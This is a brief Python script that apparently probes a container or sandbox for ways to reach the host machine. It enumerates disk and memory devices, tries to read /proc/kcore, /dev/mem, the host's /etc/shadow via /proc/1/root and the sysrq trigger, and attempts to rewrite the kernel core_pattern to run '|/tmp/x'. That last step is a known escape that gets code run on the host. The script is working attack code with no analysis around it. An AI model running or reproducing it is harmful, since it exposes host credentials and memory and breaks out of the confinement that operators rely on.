"""Devices and mounts of the machine below the box."""

import os

found = []


def try_to_read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return b""


for name in os.listdir("/dev"):
    if name.startswith(("sd", "vd", "nvme", "loop", "mem", "kmsg", "dm-")):
        found.append("/dev/" + name)
for path in ("/proc/kcore", "/dev/mem", "/proc/1/root/etc/shadow", "/proc/sysrq-trigger"):
    if try_to_read(path):
        found.append(path)
try:
    with open("/proc/sys/kernel/core_pattern", "w") as pattern:
        pattern.write("|/tmp/x")
    found.append("core_pattern")
except OSError:
    pass
for what in found:
    print("FOUND", what)
print("looked")
